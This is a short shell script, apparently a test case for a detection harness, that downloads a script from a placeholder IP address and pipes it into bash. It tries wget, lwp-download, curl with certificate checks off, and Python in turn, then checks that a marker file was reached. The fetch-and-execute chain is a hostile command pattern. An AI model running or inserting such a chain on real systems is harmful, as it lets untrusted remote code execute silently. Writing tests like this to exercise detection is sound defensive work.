#!/bin/sh
. /opt/case/case.sh

u=http://203.0.113.10/payload.sh
(wget -q -O - $u || lwp-download $u - || curl -fsSLk --max-time 20 $u || python3 -c "import urllib.request as r; print(r.urlopen('$u').read().decode())") 2>/dev/null | bash
test -e /tmp/reached
took_place
